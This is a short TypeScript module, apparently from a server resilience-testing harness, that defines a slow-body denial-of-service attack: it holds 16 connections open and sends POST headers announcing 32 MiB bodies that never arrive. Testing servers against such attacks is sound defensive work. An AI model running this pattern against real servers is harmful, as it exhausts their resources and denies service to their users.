import { type Attack, keepOpen, postHead } from '../harness/attack.ts';

/** Announces bodies of 32 MiB and sends not a byte of them. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 16, (socket) => {
    socket.write(postHead(`content-length: ${32 * 1_048_576}`));
  });
export default attack;
